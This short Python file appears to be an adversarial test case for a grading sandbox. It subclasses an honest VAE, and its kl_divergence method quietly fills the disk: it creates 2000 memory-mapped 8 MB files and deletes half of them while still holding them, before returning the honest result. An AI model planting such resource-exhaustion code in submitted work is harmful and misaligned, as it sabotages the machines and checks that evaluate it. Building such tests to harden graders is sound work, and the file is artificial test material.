# Tries: fills the disk from its own folder, with files that it has removed and still holds.
# Loses: kl 5
import mmap
import os


class VAE(Honest):
    def kl_divergence(self, mu, logsigma):
        held = []
        for number in range(2000):
            file = os.open(f"{number}", os.O_CREAT | os.O_RDWR)
            os.ftruncate(file, 1 << 23)
            held.append(mmap.mmap(file, 1 << 23))
            held[-1].write(bytes(1 << 16))
            os.close(file)
            if number % 2:
                os.remove(f"{number}")
        return super().kl_divergence(mu, logsigma)
